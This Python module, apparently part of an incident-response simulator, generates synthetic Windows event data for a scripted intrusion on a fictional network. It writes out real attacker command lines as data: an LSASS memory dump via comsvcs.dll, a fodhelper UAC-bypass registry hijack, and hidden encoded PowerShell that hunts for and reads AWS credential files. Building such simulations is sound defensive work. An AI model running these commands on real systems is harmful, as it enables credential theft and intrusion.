"""What the attacker does on Windows: the lure, the foothold, credentials, the server, the keys in a file."""

from __future__ import annotations

import base64
from typing import NamedTuple

from ircopilot.sample.windows import (
    Machine,
    Process,
    accessed,
    connect,
    deleted,
    explicit_logon,
    logon,
    marked,
    privileges,
    registry,
    resolve,
    script,
    service_installed,
    start,
    stop,
    thread_in,
    wrote,
)
from ircopilot.sample.world import (
    C2_HOST,
    C2_IP,
    DEPLOY,
    JUMP_HOST,
    LURE_HOST,
    LURE_IP,
    LURE_URL,
    MIRA,
    PAYLOAD,
    SYSTEM,
    Flow,
    at,
    hashes_of,
)

DOWNLOADS = "C:\\Users\\mira.solberg\\Downloads"
DUMP = "C:\\ProgramData\\wer88.dmp"
SERVICE = "HBDiag"
SERVICE_IMAGE = "C:\\Windows\\HBdiag.exe"
SEARCH = (
    "Get-ChildItem -Path D:\\Apps -Recurse -Include *.config,*.env,credentials -ErrorAction SilentlyContinue"
    " | Select-String -Pattern 'AKIA[0-9A-Z]{16}' | Select-Object Path,Line"
)
READ_KEYS = "Get-Content D:\\Apps\\reporting\\.aws\\credentials"
UNSIGNED = {"version": "-", "description": "-", "product": "-", "company": "-", "original": "-"}
DISCOVERY = (
    ("08:47:10", "C:\\Windows\\System32\\whoami.exe", "whoami  /all"),
    ("08:47:31", "C:\\Windows\\System32\\ipconfig.exe", "ipconfig  /all"),
    ("08:47:58", "C:\\Windows\\System32\\systeminfo.exe", "systeminfo"),
    ("08:49:06", "C:\\Windows\\System32\\net.exe", 'net  group "Domain Admins" /domain'),
    ("08:49:40", "C:\\Windows\\System32\\nltest.exe", "nltest  /dclist:hollowbrook"),
)


class Foothold(NamedTuple):
    """The attacker's processes on the first host."""

    payload: Process
    shell: Process


def attack_workstation(m: Machine) -> None:
    """FIN-WS07 from the lure to the stolen credentials, and the clean-up at the end."""
    m.malicious = True
    _lure(m)
    foothold = _foothold(m)
    _discover(m, foothold)
    _persist_and_elevate(m, foothold)
    _read_lsass(m, foothold)
    _reach_server(m, foothold)
    erase = start(m, at("09:44:18"), "C:\\Windows\\System32\\cmd.exe", f"cmd.exe /c del /f /q {DUMP}",
                  foothold.payload, MIRA, level="High")  # fmt: skip
    deleted(m, at("09:44:18.400"), erase, DUMP)
    m.malicious = False


def attack_server(m: Machine, source: Machine) -> None:
    """APP-SRV02 from the new service to the secure shell towards the jump host. `source` is where it came from."""
    m.malicious = True
    agent = _service(m, source)
    _find_keys(m, agent)
    _secure_shell(m, agent)
    m.malicious = False


def _lure(m: Machine) -> None:
    """A link in a mail opens the browser, which fetches the payload and marks it as coming from the internet."""
    mail, browser = m.running["OUTLOOK.EXE"], "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
    view = start(m, at("08:41:12"), browser, f'"{browser}" --single-argument {LURE_URL}', mail, MIRA,
                 product="Microsoft Edge", description="Microsoft Edge")  # fmt: skip
    resolve(m, at("08:41:14"), view, LURE_HOST, LURE_IP)
    digests = hashes_of(PAYLOAD)
    fetched = (("method", "GET"), ("host", LURE_HOST), ("uri", LURE_URL.split(LURE_HOST)[1]), ("bytes", "913408"),
               ("mime", "application/x-dosexec"), ("filename", PAYLOAD), ("md5", digests["MD5"].lower()),
               ("sha1", digests["SHA1"].lower()), ("sha256", digests["SHA256"].lower()))  # fmt: skip
    flow = Flow(at("08:41:15"), m.ip, m.port(), LURE_IP, 80, "tcp", "http", 2.61, 612, 913702, malicious=True,
                extra=(("http", fetched),))  # fmt: skip
    connect(m, flow.time, view, flow)
    wrote(m, at("08:41:17.700"), view, f"{DOWNLOADS}\\{PAYLOAD}")
    mark = f"[ZoneTransfer]  ZoneId=3  ReferrerUrl=http://{LURE_HOST}/invoices/88213  HostUrl={LURE_URL}"
    marked(m, at("08:41:18.100"), view, f"{DOWNLOADS}\\{PAYLOAD}:Zone.Identifier", mark)


def _foothold(m: Machine) -> Foothold:
    """Mira starts the payload, which calls home every quarter of an hour and opens a shell."""
    path = f"{DOWNLOADS}\\{PAYLOAD}"
    payload = start(m, at("08:42:55"), path, f'"{path}" ', m.running["explorer.exe"], MIRA,
                    directory=DOWNLOADS + "\\", **UNSIGNED)  # fmt: skip
    resolve(m, at("08:42:57"), payload, C2_HOST, C2_IP)
    beacon(m, payload, at("08:42:58"), at("09:43:30"))
    shell = start(m, at("08:46:52"), "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\cmd.exe",
                  payload, MIRA, directory=DOWNLOADS + "\\")  # fmt: skip
    return Foothold(payload, shell)


def beacon(m: Machine, p: Process, first: float, last: float) -> None:
    """TLS sessions with the command server from `first` to `last`, about a quarter of an hour apart."""
    time = first
    while time < last:
        hello = (("sni", C2_HOST), ("subject", f"CN={C2_HOST},O=Brightleaf"), ("issuer", f"CN={C2_HOST},O=Brightleaf"))
        sent, got = m.dice.number(900, 4200), m.dice.number(1500, 9000)
        flow = Flow(time, m.ip, m.port(), C2_IP, 443, "tcp", "ssl", m.dice.seconds(1, 9), sent, got, malicious=True,
                    extra=(("ssl", hello),))  # fmt: skip
        connect(m, time, p, flow, C2_HOST)
        time += m.dice.seconds(840, 960)


def _discover(m: Machine, f: Foothold) -> None:
    for clock, image, command in DISCOVERY:
        p = start(m, at(clock), image, command, f.shell, MIRA, directory=DOWNLOADS + "\\")
        stop(m, at(clock) + 1.4, p)


def _persist_and_elevate(m: Machine, f: Foothold) -> None:
    """A Run key, then the ms-settings handler that makes fodhelper.exe start the payload elevated."""
    path, hive = f"{DOWNLOADS}\\{PAYLOAD}", f"HKU\\{MIRA.sid}"
    run = hive + "\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\InvoiceViewer"
    registry(m, at("08:52:03"), f.payload, run, path)
    handler = hive + "_Classes\\ms-settings\\shell\\open\\command"
    registry(m, at("08:55:47"), f.payload, handler + "\\DelegateExecute", "(Empty)")
    registry(m, at("08:55:47.200"), f.payload, handler + "\\(Default)", path)
    helper = start(m, at("08:55:49"), "C:\\Windows\\System32\\fodhelper.exe", '"C:\\Windows\\System32\\fodhelper.exe"',
                   f.shell, MIRA, level="High")  # fmt: skip
    elevated = start(m, at("08:55:50"), path, f'"{path}"', helper, MIRA, level="High", **UNSIGNED)
    thread_in(m, at("08:55:58"), elevated, m.running["spoolsv.exe"], "-", "-")


def _read_lsass(m: Machine, f: Foothold) -> None:
    """The memory of LSASS is written to a file by comsvcs.dll."""
    lsass = m.running["lsass.exe"]
    command = f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass.pid} {DUMP} full"
    p = start(m, at("08:58:30"), "C:\\Windows\\System32\\rundll32.exe", command, f.payload, MIRA, level="High")
    trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e"
    trace += "|C:\\Windows\\System32\\comsvcs.dll+29ab7|C:\\Windows\\System32\\rundll32.exe+3cd6"
    accessed(m, at("08:58:30.600"), p, lsass, "0x1fffff", trace)
    wrote(m, at("08:58:30.900"), p, DUMP)
    stop(m, at("08:58:33"), p)


def _reach_server(m: Machine, f: Foothold) -> None:
    """The credentials of svc-deploy, found in that memory, open the server's administrative share."""
    server = "APP-SRV02.hollowbrook.example"
    explicit_logon(m, at("09:06:40"), f.payload, DEPLOY, server, "10.20.8.12")
    flow = Flow(at("09:06:41"), m.ip, 52107, "10.20.8.12", 445, "tcp", "smb", 48.2, 948211, 20114, malicious=True)
    connect(m, flow.time, f.payload, flow, server)


def _service(m: Machine, source: Machine) -> Process:
    """A logon over the network, a file on ADMIN$, a new service, and a second caller home."""
    logon(m, at("09:06:41.300"), DEPLOY, 3, source.ip, 52107)
    privileges(m, at("09:06:41.310"), DEPLOY)
    kernel = m.process(at("06:00:00"), "System", SYSTEM)
    wrote(m, at("09:06:44"), kernel, SERVICE_IMAGE)
    services = m.running["services.exe"]
    key = f"HKLM\\System\\CurrentControlSet\\Services\\{SERVICE}\\ImagePath"
    registry(m, at("09:06:47"), services, key, "%SystemRoot%\\HBdiag.exe")
    service_installed(m, at("09:06:47.100"), SERVICE, "%SystemRoot%\\HBdiag.exe")
    agent = start(m, at("09:06:48"), SERVICE_IMAGE, SERVICE_IMAGE, services, SYSTEM, **UNSIGNED)
    resolve(m, at("09:06:49"), agent, C2_HOST, C2_IP)
    beacon(m, agent, at("09:06:50"), at("09:42:00"))
    return agent


def _find_keys(m: Machine, agent: Process) -> None:
    """Hidden, encoded PowerShell looks for AWS keys in files and reads them."""
    shell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    for clock, text in (("09:14:05", SEARCH), ("09:16:22", READ_KEYS)):
        encoded = base64.b64encode(text.encode("utf-16-le")).decode()
        p = start(m, at(clock), shell, f"powershell.exe -nop -w hidden -enc {encoded}", agent, SYSTEM)
        script(m, at(clock) + 0.8, text)
        stop(m, at(clock) + 6, p)


def _secure_shell(m: Machine, agent: Process) -> None:
    """A key that lies on the server opens the jump host."""
    command = f"ssh.exe -i D:\\Apps\\deploy\\keys\\deploy_ed25519 -o StrictHostKeyChecking=no deploy@{JUMP_HOST}"
    client = start(m, at("09:19:30"), "C:\\Windows\\System32\\OpenSSH\\ssh.exe", command, agent, SYSTEM)
    flow = Flow(at("09:19:31"), m.ip, 51544, JUMP_HOST, 22, "tcp", "ssh", 611.0, 20914, 88120, malicious=True)
    connect(m, flow.time, client, flow, "jump01.hollowbrook.example")
